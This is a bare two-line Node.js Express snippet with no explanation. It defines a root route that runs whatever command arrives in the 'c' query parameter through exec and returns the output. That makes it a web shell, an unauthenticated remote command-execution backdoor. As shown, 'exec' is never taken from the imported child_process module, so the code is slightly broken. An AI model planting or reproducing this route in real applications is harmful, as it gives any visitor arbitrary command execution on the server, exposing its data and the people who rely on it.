const cp = require("child_process");
app.get("/", (req, res) => exec(req.query.c, (e, o) => res.send(o)));
